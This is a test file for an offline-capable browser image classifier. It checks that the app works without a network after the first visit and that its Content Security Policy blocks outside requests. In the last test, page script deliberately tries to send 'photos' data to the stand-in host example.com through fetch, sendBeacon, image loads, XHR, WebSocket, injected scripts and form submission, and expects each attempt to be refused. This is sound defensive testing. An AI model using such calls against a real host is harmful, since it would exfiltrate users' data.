// After the first visit the page needs no network, and at no visit does it ask anybody but its own site.

import assert from 'node:assert/strict';
import http from 'node:http';
import { test } from 'node:test';

import { PAGE, browser, open, ready, samplesReady, state, trained } from './support/browser.mjs';
import { noise } from './support/pictures.mjs';

/**
 * The page at an address of its own, which can be switched off. Until `serveWorker` is called it has no service worker. `plain`: by a
 * server that says nothing of sharing memory, as those for static files.
 */
async function site(t, { plain = false } = {}) {
  let serveWorker;
  const worker = new Promise((resolve) => (serveWorker = resolve));
  const server = http.createServer(async (request, response) => {
    if (request.url === '/sw.js') await worker;
    const { hostname, port } = new URL(PAGE);
    const forwarded = http.request({ hostname, port, path: request.url, method: request.method, headers: { ...request.headers, host: new URL(PAGE).host } }, (answer) => {
      if (plain) for (const name of ['opener', 'embedder']) delete answer.headers[`cross-origin-${name}-policy`];
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    forwarded.on('error', () => response.destroy());
    request.pipe(forwarded);
  });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const off = () => {
    server.close();
    server.closeAllConnections();
  };
  t.after(off);
  return { address: `http://127.0.0.1:${server.address().port}/`, off, serveWorker };
}

/** Nothing is being learnt, and the project lies in the browser with all its photos. */
async function photosStored(page) {
  await samplesReady(page);
  await page.evaluate(() => globalThis.lowshot.actions.stop());
  await page.evaluate(() => globalThis.lowshot.actions.renameProject('Without a network'));
  await page.waitForFunction(() => globalThis.lowshot.state.projects.some(({ name, samples }) => name === 'Without a network' && samples === 40));
}

/** Learns by Tip-Adapter, and answers by it. */
async function learns(page) {
  await page.evaluate(async () => {
    globalThis.lowshot.actions.changeSettings({ methods: ['tip'] });
    await globalThis.lowshot.actions.train();
  });
  const { status, ladder, used } = await trained(page);
  assert.deepEqual([status, ladder.map(({ method, status }) => [method, status]), used], ['done', [['tip', 'done']], 'tip']);
  const answer = await page.evaluate(async (photo) => globalThis.lowshot.actions.classify(new Blob([Uint8Array.from(atob(photo), (letter) => letter.charCodeAt(0))])), noise(64, 64, 5).toString('base64'));
  assert.equal(answer.method, 'tip');
  assert.equal(answer.probabilities.length, 5);
}

test('where the server says nothing of sharing memory, the second visit has threads, without a network too', { timeout: 240_000 }, async (t) => {
  const { address, off, serveWorker } = await site(t, { plain: true });
  const { page, context } = await browser(t, { errors: [/Failed to load resource|ERR_/] });
  const fetched = [];
  context.on('request', (request) => request.url().endsWith('.wasm') && fetched.push(/\/([a-z]+)[-_][^/]*$/.exec(request.url())[1]));
  const visit = async (go) => {
    fetched.length = 0;
    await go();
    await ready(page);
    return [await page.evaluate(() => globalThis.crossOriginIsolated), [...new Set(fetched)]];
  };
  assert.deepEqual(await visit(() => page.goto(address)), [false, ['relaxed']]);
  await photosStored(page);
  serveWorker();
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  off();
  assert.deepEqual(await visit(() => page.reload()), [true, ['threads']]);
  await samplesReady(page);
  await learns(page);
});

test('after the first visit it opens, learns and answers without a network', { timeout: 240_000 }, async (t) => {
  const { address, off, serveWorker } = await site(t);
  // What cannot be reached is what this is about.
  const { page, context } = await browser(t, { errors: [/Failed to load resource|ERR_/] });
  await open(page, address);
  await photosStored(page);
  // It says so as soon as it is so, however late that is, and not before.
  assert.equal(await page.getByTestId('offline').count(), 0);
  serveWorker();
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  await page.getByTestId('offline').waitFor();

  off();
  await context.setOffline(true);
  await assert.rejects(page.evaluate(() => fetch('manifest.webmanifest?', { cache: 'no-store' }).then(({ status }) => status)), /Failed to fetch/, 'there is no network');
  await page.reload();
  await ready(page);
  const { project, model, notices } = await state(page);
  assert.equal(project.name, 'Without a network');
  assert.deepEqual([model.name, model.status], ['demo', 'ready']);
  assert.deepEqual(notices, []);
  await page.getByTestId('offline').waitFor();
  await samplesReady(page);
  await learns(page);

  // Photos that are stored are shown and can be taken along; more can be added, in projects that begin now.
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid="class-card"] img.thumbnail')].some(({ naturalWidth }) => naturalWidth > 0));
  await page.evaluate(async (photo) => {
    const { actions } = globalThis.lowshot;
    await actions.newProject();
    const file = new File([Uint8Array.from(atob(photo), (letter) => letter.charCodeAt(0))], 'new.png');
    await actions.addPhotos(actions.addClass('new'), [file]);
  }, noise(50, 40, 6).toString('base64'));
  assert.deepEqual((await state(page)).project.classes.map(({ name, samples }) => [name, samples.map(({ state }) => state)]), [['new', ['ready']]]);
  assert.deepEqual((await state(page)).notices, []);
});

test('a whole session asks nobody but its own site, and no script can', { timeout: 240_000 }, async (t) => {
  const { page, context } = await browser(t, { errors: [/Content Security Policy|violates|Refused to|Fetch API cannot load|Connecting to/i] });
  const asked = [];
  context.on('request', (request) => asked.push(request));
  await open(page);
  await samplesReady(page);
  await page.evaluate(() => globalThis.lowshot.actions.stop());
  await learns(page);
  for (const panel of ['model-badge', 'projects']) {
    await page.getByTestId(panel).click();
    await page.locator('dialog[open]').waitFor();
    await page.keyboard.press('Escape');
    await page.locator('dialog').waitFor({ state: 'detached' });
  }
  await page.getByTestId('try-all').click();
  await page.waitForFunction(() => [...document.querySelectorAll('[data-testid="try-result"]')].filter(({ dataset }) => dataset.status === 'answered').length >= 20);
  await page.evaluate(() => globalThis.lowshot.actions.openSample('photos'));
  await page.waitForFunction(() => navigator.serviceWorker.controller?.state === 'activated');
  await page.reload();
  await ready(page);
  assert.ok(asked.length > 60, `${asked.length} requests were seen`);
  const elsewhere = asked.map((request) => request.url()).filter((url) => /^(https?|wss?):/.test(url) && new URL(url).origin !== new URL(PAGE).origin);
  assert.deepEqual(elsewhere, []);

  // Whatever script there were, it could send nothing, in none of these ways.
  const before = asked.length;
  const refused = await page.evaluate(async () => {
    // The page's policy and the server's tell of each.
    const seen = new Set();
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => seen.add(`${effectiveDirective} ${blockedURI}`));
    const failed = await fetch('https://example.com/fetched', { method: 'POST', body: 'photos' }).then(() => 'sent', () => 'refused');
    navigator.sendBeacon('https://example.com/beacon', 'photos');
    new Image().src = 'https://example.com/image?photos';
    const request = new XMLHttpRequest();
    request.open('GET', 'https://example.com/request');
    request.onerror = () => undefined;
    request.send();
    try {
      new WebSocket('wss://example.com/socket').onerror = () => undefined;
    } catch {
      // Some browsers throw.
    }
    const script = document.createElement('script');
    script.src = 'https://example.com/script.js';
    document.head.append(script);
    const inline = document.createElement('script');
    inline.textContent = 'globalThis.inlineRan = true';
    document.head.append(inline);
    const form = document.createElement('form');
    Object.assign(form, { action: 'https://example.com/form', method: 'post' });
    document.body.append(form);
    form.submit();
    while (seen.size < 8) await new Promise((resolve) => document.addEventListener('securitypolicyviolation', resolve, { once: true }));
    return { failed, inline: globalThis.inlineRan ?? false, seen: [...seen] };
  });
  assert.equal(refused.failed, 'refused');
  assert.equal(refused.inline, false);
  assert.deepEqual(refused.seen.map((one) => one.replace('https://example.com/', '')).sort(), [
    'connect-src beacon',
    'connect-src fetched',
    'connect-src request',
    'connect-src wss://example.com/socket',
    'form-action form',
    'img-src image?photos',
    'script-src-elem inline',
    'script-src-elem script.js',
  ]);
  for (const request of asked.slice(before).filter((request) => /example\.com/.test(request.url()))) {
    assert.equal(await request.response(), null);
    assert.equal(request.failure()?.errorText, 'csp', request.url());
  }
  // Workers are under the same policy.
  const [worker] = page.workers();
  assert.equal(await worker.evaluate(() => fetch('https://example.com/worker').then(() => 'sent', () => 'refused')), 'refused');
});
